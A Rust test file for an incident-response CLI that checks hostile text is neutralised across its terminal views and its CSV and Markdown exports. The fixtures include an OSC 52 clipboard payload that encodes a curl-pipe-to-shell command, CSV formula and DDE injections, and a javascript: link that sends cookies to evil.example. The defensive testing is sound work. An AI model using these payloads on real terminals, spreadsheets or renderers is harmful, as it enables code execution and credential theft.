//! What the real `warroom` binary prints is safe to read, whoever typed it: terminal
//! escapes, C1, bidi and zero-width characters in notes, titles, reasons, checklist
//! items and action output reach no terminal raw (every plain view, `tail`, the
//! exports; JSON keeps decoding to the verbatim text), while the log keeps them as
//! typed. The CSV export cannot start a spreadsheet formula and the Markdown export
//! renders notes as text.
//!
//! The hub runs in this process on 127.0.0.1 port 0; its one action prints hostile
//! bytes with `/usr/bin/printf` (argv, no shell). Every test has its own directories and
//! none of the caller's `WARROOM_*` variables.

use serde_json::Value;
use std::io::{BufRead, BufReader};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};
use tempfile::TempDir;
use warroom::engine::DataDir;
use warroom::hub::auth::Authenticator;
use warroom::hub::{HubOptions, RunningHub, start};
use warroom::incident::Role;
use warroom::incident::action::ActionSpec;
use warroom::incident::safe_text::is_dangerous;

const BIN: &str = env!("CARGO_BIN_EXE_warroom");
const ALICE: &str = "wrt_alice_commander_0000000000000000000000000000000000000000000000000000";
const LIMIT: Duration = Duration::from_secs(10);

/// One of every class: OSC 52 (clipboard), OSC 0 (window title), CSI 2J, C1 CSI, DEL,
/// a CR, a bidi override and isolate, zero-width space, joiners, word joiner, BOM.
fn hostile(what: &str) -> String {
    format!(
        "{what} \u{1b}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u{7}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}2J\u{7f}\r\u{202e}fdp.exe\u{2066}x\u{2069} z\u{200b}w\u{200c}j\u{200d}n\u{2060}b\u{feff}end"
    )
}

/// Runs the binary with nothing from the caller's environment; asserts exit 0.
fn warroom(home: &Path, args: &[&str]) -> Vec<u8> {
    let output = command(home, args).output().expect("run warroom");
    assert!(
        output.status.success(),
        "`warroom {}` failed:\n{}",
        args.join(" "),
        String::from_utf8_lossy(&output.stderr)
    );
    output.stdout
}

fn command(home: &Path, args: &[&str]) -> Command {
    let mut command = Command::new(BIN);
    command
        .args(args)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("share"))
        .env("NO_COLOR", "1")
        .stdin(Stdio::null());
    for (key, _) in std::env::vars_os() {
        if key.to_string_lossy().starts_with("WARROOM_") {
            command.env_remove(key);
        }
    }
    command
}

/// Asserts that `bytes` hold no dangerous character, naming the first one and where.
fn assert_inert(what: &str, bytes: &[u8]) -> String {
    let text =
        String::from_utf8(bytes.to_vec()).unwrap_or_else(|e| panic!("{what} is not UTF-8: {e}"));
    if let Some((at, c)) = text.char_indices().find(|(_, c)| is_dangerous(*c)) {
        let start = text.floor_char_boundary(at.saturating_sub(40));
        panic!(
            "{what} prints {:?} raw at byte {at}: …{}",
            c,
            text[start..]
                .chars()
                .take(80)
                .collect::<String>()
                .escape_debug()
        );
    }
    text
}

/// Every string in a JSON value.
fn strings(value: &Value) -> Vec<String> {
    match value {
        Value::String(s) => vec![s.clone()],
        Value::Array(items) => items.iter().flat_map(strings).collect(),
        Value::Object(map) => map.values().flat_map(strings).collect(),
        _ => Vec::new(),
    }
}

struct Hub {
    dir: TempDir,
    runtime: tokio::runtime::Runtime,
    hub: Option<RunningHub>,
    url: String,
}

impl Hub {
    /// A hub whose one action, `shout`, prints `output` (commander may run it).
    fn start(output: &str) -> Hub {
        let dir = tempfile::tempdir().expect("temp dir");
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("a runtime");
        let spec = format!(
            "id = \"shout\"\ntitle = \"Shout\"\ndescription = \"Prints what a target said.\"\n\
             roles = [\"commander\"]\nconfirm = true\ntwo_person = false\nidempotent = true\n\
             timeout_seconds = 5\nkind = \"exec\"\nargv = [\"/usr/bin/printf\", {}]\n",
            toml::Value::String(output.to_string())
        );
        let spec: ActionSpec = toml::from_str(&spec).expect("the action parses");
        let mut runbooks = warroom::catalog::embedded().expect("the built-in catalog");
        runbooks.actions = vec![spec];
        let options = HubOptions {
            listen: SocketAddr::from(([127, 0, 0, 1], 0)),
            data: DataDir::new(dir.path().join("data")),
            runbooks,
            auth: Authenticator::default().with_token(ALICE, "alice", [Role::Commander]),
            limits: warroom::hub::HubLimits::default(),
        };
        let hub = runtime.block_on(start(options)).expect("the hub starts");
        let url = format!("http://{}", hub.addr);
        Hub {
            dir,
            runtime,
            hub: Some(hub),
            url,
        }
    }

    fn args<'a>(&'a self, args: &[&'a str]) -> Vec<&'a str> {
        let mut all = args.to_vec();
        all.extend_from_slice(&["--hub", self.url.as_str(), "--token", ALICE]);
        all
    }

    fn run(&self, args: &[&str]) -> Vec<u8> {
        warroom(self.dir.path(), &self.args(args))
    }

    fn log(&self, id: &str) -> PathBuf {
        DataDir::new(self.dir.path().join("data")).log_path(id)
    }

    /// `tail` (with `extra` arguments) until it has printed `until`, at most [`LIMIT`].
    fn tail(&self, id: &str, extra: &[&str], mut until: impl FnMut(&str) -> bool) -> Vec<u8> {
        let mut args = vec!["tail", id];
        args.extend_from_slice(extra);
        let mut child = command(self.dir.path(), &self.args(&args))
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("tail starts");
        let stdout = child.stdout.take().expect("stdout");
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            let mut reader = BufReader::new(stdout);
            let mut line = Vec::new();
            while reader.read_until(b'\n', &mut line).unwrap_or(0) > 0 {
                let _ = tx.send(std::mem::take(&mut line));
            }
        });
        let deadline = Instant::now() + LIMIT;
        let mut seen = Vec::new();
        while let Ok(line) = rx.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
            seen.extend_from_slice(&line);
            if until(&String::from_utf8_lossy(&line)) {
                break;
            }
        }
        let _ = child.kill();
        let _ = child.wait();
        seen
    }
}

impl Drop for Hub {
    fn drop(&mut self) {
        if let Some(hub) = self.hub.take() {
            let _ = self.runtime.block_on(hub.shutdown());
        }
    }
}

#[test]
fn hostile_text_is_neutralised_in_every_view_and_kept_verbatim_in_the_log() {
    let (title, note, item, reason, said) = (
        hostile("title"),
        hostile("note"),
        hostile("item"),
        hostile("reason"),
        hostile("said"),
    );
    let hub = Hub::start(&said);
    let id = String::from_utf8(hub.run(&["declare", "--title", &title])).expect("utf-8");
    let id = id.trim();
    hub.run(&["note", id, &note]);
    hub.run(&["item", id, &item]);
    hub.run(&["severity", id, "SEV1", "--reason", &reason]);
    assert_inert("act", &hub.run(&["act", id, "shout"]));
    let deadline = Instant::now() + LIMIT;
    let runs = loop {
        let runs: Value = serde_json::from_slice(&hub.run(&["runs", id, "--json"])).expect("json");
        if runs[0]["excerpt"].as_str().is_some_and(|e| !e.is_empty()) {
            break runs;
        }
        assert!(
            Instant::now() < deadline,
            "the action never finished: {runs}"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(
        runs[0]["excerpt"], said,
        "JSON decodes to the verbatim output"
    );

    let visible = |text: &str, needles: &[&str]| {
        for needle in needles {
            assert!(text.contains(needle), "`{needle}` missing from:\n{text}");
        }
    };
    let escapes = [
        "\\u{1b}]52;c;",
        "\\u{1b}]0;pwned\\u{7}",
        "\\u{9b}2J",
        "\\u{202e}",
        "j\\u{200d}n",
    ];
    let status = assert_inert("status", &hub.run(&["status", id]));
    visible(
        &status,
        &[
            "title \\u{1b}]52;c;",
            "note \\u{1b}]52;c;",
            "item \\u{1b}]52;c;",
        ],
    );
    visible(&status, &escapes);
    let list = assert_inert("list", &hub.run(&["list"]));
    visible(&list, &["title \\u{1b}]52"]);
    let shown = assert_inert("runs", &hub.run(&["runs", id]));
    visible(&shown, &["said \\u{1b}]52;c;"]);
    let md = assert_inert("export md", &hub.run(&["export", id, "--format", "md"]));
    visible(&md, &["note \\u{1b}\\]52;c;"]);
    let csv = assert_inert("export csv", &hub.run(&["export", id, "--format", "csv"]));
    visible(&csv, &["note \\u{1b}]52;c;"]);

    for (what, args, typed) in [
        (
            "export json",
            vec!["export", id, "--format", "json"],
            vec![&title, &note, &item, &reason],
        ),
        (
            "status --json",
            vec!["status", id, "--json"],
            vec![&title, &note, &item, &reason],
        ),
        ("list --json", vec!["list", "--json"], vec![&title]),
        ("runs --json", vec!["runs", id, "--json"], vec![&said]),
    ] {
        let text = assert_inert(what, &hub.run(&args));
        let json: Value = serde_json::from_str(&text).expect("still JSON");
        let strings = strings(&json);
        for typed in typed {
            assert!(
                strings.contains(typed),
                "{what} does not decode to {typed:?}"
            );
        }
    }

    // Through a hub too, the export names the head it was read at, and the hub's log
    // extends it.
    let exported: Value =
        serde_json::from_slice(&hub.run(&["export", id, "--format", "json"])).expect("json");
    let head = format!(
        "{}:{}",
        exported["head"]["seq"],
        exported["head"]["hash"]
            .as_str()
            .expect("a head from the hub")
    );
    let log = hub.log(id);
    let verified = warroom(
        hub.dir.path(),
        &["verify", log.to_str().expect("utf-8"), "--head", &head],
    );
    assert!(String::from_utf8_lossy(&verified).contains("unchanged"));

    let events: Value = serde_json::from_slice(&hub.run(&["status", id, "--json"])).expect("json");
    let last = events["events"].as_array().expect("events").len();
    let last_mark = format!("#{last:<5}");
    let tailed = hub.tail(id, &[], |line| line.starts_with(&last_mark));
    let tailed = assert_inert("tail", &tailed);
    visible(&tailed, &["note \\u{1b}]52;c;", "title \\u{1b}]52"]);
    let mut lines = 0;
    let tailed = hub.tail(id, &["--json"], |_| {
        lines += 1;
        lines == last
    });
    let tailed = assert_inert("tail --json", &tailed);
    let decoded: Vec<Value> = tailed
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON event per line"))
        .collect();
    assert_eq!(decoded.len(), last, "{tailed}");
    assert!(decoded.iter().any(|e| e["text"] == note), "{tailed}");

    // The log is the record: every character as typed.
    let log = std::fs::read_to_string(hub.log(id)).expect("the log");
    let texts: Vec<String> = log
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).expect("a log line"))
        .flat_map(|line| strings(&line["event"]))
        .collect();
    for typed in [&title, &note, &item, &reason, &said] {
        assert!(texts.contains(typed), "the log lost {typed:?}");
    }
    assert!(
        log.contains('\u{202e}') && log.contains('\u{9b}'),
        "stored raw"
    );
}

/// A local data directory for the export tests.
fn local(home: &Path, args: &[&str]) -> Vec<u8> {
    let data = home.join("data");
    // Options right after the command's name (a `--` may end the line); `export` only
    // reads: it takes no identity.
    let mut all = vec![args[0], "--data", data.to_str().expect("utf-8")];
    if args[0] != "export" {
        all.extend_from_slice(&["--as", "alice"]);
    }
    all.extend_from_slice(&args[1..]);
    warroom(home, &all)
}

#[test]
fn csv_cells_never_start_a_formula() {
    let home = tempfile::tempdir().expect("temp dir");
    let id =
        String::from_utf8(local(home.path(), &["declare", "--title", "Formulas"])).expect("utf-8");
    let id = id.trim();
    let formulas = [
        "=HYPERLINK(\"http://evil.example/x?\"&A1,\"details\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tindented",
        "\r=1+1",
    ];
    for formula in formulas {
        // `--`: a note may start with `-`.
        local(home.path(), &["note", id, "--", formula]);
    }
    let csv = local(home.path(), &["export", id, "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let texts: Vec<String> = reader
        .records()
        .map(|r| r.expect("a CSV record")[4].to_string())
        .collect();
    for formula in &formulas[..5] {
        assert!(
            texts.contains(&format!("'{formula}")),
            "{formula:?} not prefixed: {texts:?}"
        );
    }
    assert!(texts.contains(&"\\u{d}=1+1".to_string()), "{texts:?}");
    for text in &texts {
        assert!(
            !text.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{text:?} starts a formula"
        );
    }
}

#[test]
fn markdown_export_renders_notes_as_text() {
    let home = tempfile::tempdir().expect("temp dir");
    let id = String::from_utf8(local(home.path(), &["declare", "--title", "<b>Leak</b>"]))
        .expect("utf-8");
    let id = id.trim();
    let notes = [
        "<script>alert(1)</script><img src=\"https://evil.example/beacon.gif\">",
        "see ![chart](https://evil.example/pixel.png?who=reader)",
        "[the runbook](javascript:fetch('https://evil.example/'+document.cookie))",
        "fence opens\n```\nand never closes",
        "~~~\ntilde fence too",
        "<!-- an unclosed comment",
    ];
    for note in notes {
        local(home.path(), &["note", id, note]);
    }
    let md =
        String::from_utf8(local(home.path(), &["export", id, "--format", "md"])).expect("utf-8");
    for raw in [
        "<script",
        "<img",
        "<b>",
        "<!--",
        "![chart]",
        "[the runbook]",
    ] {
        assert!(!md.contains(raw), "`{raw}` is live in:\n{md}");
    }
    for (at, _) in md.match_indices("](") {
        assert!(
            md[..at].ends_with('\\'),
            "a live link: …{}",
            &md[at.saturating_sub(30)..at + 20]
        );
    }
    for line in md.lines() {
        let start = line.trim_start();
        assert!(
            !start.starts_with("```") && !start.starts_with("~~~"),
            "a fence from a note: {line:?}"
        );
    }
    // The words are all there, escaped, and what follows the timeline still renders.
    for shown in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\!\\[chart\\](https://evil.example/pixel.png?who=reader)",
        "\\`\\`\\`",
        "&lt;b&gt;Leak&lt;/b&gt;",
        "## Root causes and contributing factors",
    ] {
        assert!(md.contains(shown), "`{shown}` missing from:\n{md}");
    }
}
